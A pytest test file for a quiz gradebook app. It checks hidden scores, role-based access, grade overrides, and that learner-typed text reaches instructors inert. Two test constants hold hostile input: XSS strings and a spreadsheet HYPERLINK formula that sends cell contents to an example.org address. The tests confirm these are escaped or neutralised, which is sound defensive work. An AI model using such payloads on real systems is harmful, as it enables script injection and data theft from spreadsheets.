"""Scores on hold stay on hold in every page and export of the learner; what learners type is inert for instructors."""

import csv
import io
import json
from datetime import timedelta

import pytest
from sqlalchemy import func, select, update

from app.models import Course, Feedback, Grade, Learner, Membership, Policy, Role, Section, Source
from tests.abuse.conftest import NewTaker
from tests.takers import NOW, Taker

QUIZ = "gradient-descent"
HOSTILE = "<script>alert(1)</script> $\\href{javascript:alert(1)}{x}$ \" onload='x'"
FORMULA = '=HYPERLINK("http://example.org?"&A1,"x"), "quoted"'


class Desk:
    """An instructor, a section, and a learner in it, each with a browser."""

    def __init__(self, new_taker: NewTaker, feedback: Feedback = Feedback.NOW, name: str = "Noor") -> None:
        self.teacher, self.learner = new_taker(), new_taker()
        self.teacher.sign_up("emmy@example.org", "Emmy")
        self.learner.sign_up("noor@example.org", name)
        self.section = self._section(feedback)

    def _section(self, feedback: Feedback) -> str:
        with self.teacher.database.write() as session:
            emails = {row.email: row.id for row in session.scalars(select(Learner))}
            course = Course(title="Course", created_at=NOW)
            session.add(course)
            session.flush()
            section = Section(course_id=course.id, name="Monday", created_at=NOW)
            session.add(section)
            session.flush()
            due = session.scalar(select(func.max(Learner.created_at))) or NOW
            values = {"feedback": feedback, "due_at": due + timedelta(days=1)}
            session.add(Policy(section_id=section.id, quiz=QUIZ, **values))
            for email, role in (("emmy@example.org", Role.INSTRUCTOR), ("noor@example.org", Role.LEARNER)):
                membership = {"section_id": section.id, "role": role, "joined_at": NOW}
                session.add(Membership(learner_id=emails[email], **membership))
            return section.public_id

    @property
    def home(self) -> str:
        return f"/instructor/sections/{self.section}"


@pytest.mark.parametrize("right", [0, 4])
def test_a_score_on_hold_is_in_no_page_or_export_of_the_learner(taker: NewTaker, right: int) -> None:
    desk = Desk(taker, Feedback.AFTER_DUE)
    attempt = desk.learner.start(QUIZ)
    desk.learner.finish(attempt, right)

    pages = [f"/attempts/{attempt}", *(f"/attempts/{attempt}/items/{slot}" for slot in range(1, 5)), "/quizzes", "/me"]
    for path in (*pages, f"/quizzes/{QUIZ}"):
        page = desk.learner.get(path)
        assert page.status == 200, path
        for telling in ("★", "✕", "quiz-score", "Perfect", "Worth another look", "Not right"):
            assert telling not in page.text, (path, telling)
    exported = desk.learner.get("/me/export.json")
    assert exported.status == 200
    (held,) = json.loads(exported.text)["attempts"]
    assert held["points"] is None
    assert [(each["question"], each["marks"]) for each in held["items"]] == [("", [])] * 4


def test_the_instructor_sees_what_the_learner_does_not_yet(taker: NewTaker) -> None:
    desk = Desk(taker, Feedback.AFTER_DUE)
    attempt = desk.learner.start(QUIZ)
    desk.learner.finish(attempt)

    assert "100 %" in desk.teacher.get(f"{desk.home}/gradebook").text
    for path in ("gradebook", "gradebook.csv", "gradebook.txt", "items", f"items/{QUIZ}", f"attempts/{attempt}"):
        assert desk.teacher.get(f"{desk.home}/{path}").status == 200
        assert desk.learner.get(f"{desk.home}/{path}").status in (403, 404)


def test_names_and_reasons_are_inert_on_every_page_of_the_instructor(taker: NewTaker) -> None:
    desk = Desk(taker, name=HOSTILE)
    attempt = desk.learner.start(QUIZ)
    desk.learner.finish(attempt, 1)
    grade = {"mark": "0.5", "reason": HOSTILE, "seen": "1"}
    assert desk.teacher.post(f"{desk.home}/attempts/{attempt}/items/2/grades", grade).status == 303

    for path in ("gradebook", f"gradebook?text={HOSTILE}", f"attempts/{attempt}", "items", f"items/{QUIZ}"):
        text = desk.teacher.get(f"{desk.home}/{path}").text
        assert "<script>alert" not in text
        assert 'href="javascript' not in text


def test_a_name_that_is_a_formula_is_neutral_in_the_spreadsheet_and_loses_nothing(taker: NewTaker) -> None:
    desk = Desk(taker, name=FORMULA)

    page = desk.teacher.get(f"{desk.home}/gradebook.csv")
    heading, line = csv.reader(io.StringIO(page.text, newline=""))
    pasted = desk.teacher.get(f"{desk.home}/gradebook.txt").text.splitlines()[1]

    assert line[0] == f"'{FORMULA}"
    assert len(heading) == len(line)
    assert pasted.startswith("'=")
    assert page.headers["Content-Type"].startswith("text/csv")
    assert page.headers["Content-Disposition"] == 'attachment; filename="gradebook.csv"'


def test_a_mark_by_hand_needs_an_actor_and_a_reason_and_survives_marking_again(taker: NewTaker) -> None:
    desk = Desk(taker)
    attempt = desk.learner.start(QUIZ)
    desk.learner.finish(attempt, 0)
    address = f"{desk.home}/attempts/{attempt}/items/1/grades"

    assert desk.teacher.post(address, {"mark": "1", "reason": "  ", "seen": "1"}).status == 400
    assert desk.learner.post(address, {"mark": "1", "reason": "Mine.", "seen": "1"}).status in (403, 404)
    assert taker().post(address, {"mark": "1", "reason": "Mine.", "seen": "1"}).status in (403, 404)
    assert desk.teacher.post(address, {"mark": "1", "reason": "Fair.", "seen": "1"}).status == 303
    desk.teacher.post(f"{desk.home}/errata")

    with desk.teacher.database.read() as session:
        last = session.scalars(select(Grade).order_by(Grade.id.desc()).limit(1)).one()
    assert (last.source, last.fraction, last.reason) == (Source.OVERRIDE, 1.0, "Fair.")
    assert last.actor_id is not None


def test_an_assistant_sees_marks_and_changes_none(taker: NewTaker) -> None:
    desk = Desk(taker)
    attempt = desk.learner.start(QUIZ)
    desk.learner.finish(attempt)
    with desk.teacher.database.write() as session:
        session.execute(update(Membership).where(Membership.role == Role.INSTRUCTOR).values(role=Role.ASSISTANT))

    page = desk.teacher.get(f"{desk.home}/attempts/{attempt}")
    grade = {"mark": "0", "reason": "x", "seen": "1"}
    refused = desk.teacher.post(f"{desk.home}/attempts/{attempt}/items/1/grades", grade)

    assert "Change this mark" not in page.text
    assert refused.status == 403


def test_another_sections_attempt_is_not_found_through_ones_own(taker: NewTaker) -> None:
    desk = Desk(taker)
    stranger: Taker = taker()
    attempt = stranger.start(QUIZ)
    stranger.finish(attempt)

    assert desk.teacher.get(f"{desk.home}/attempts/{attempt}").status == 404
    grade = {"mark": "0", "reason": "x", "seen": "1"}
    posted = desk.teacher.post(f"{desk.home}/attempts/{attempt}/items/1/grades", grade)
    assert posted.status == 404
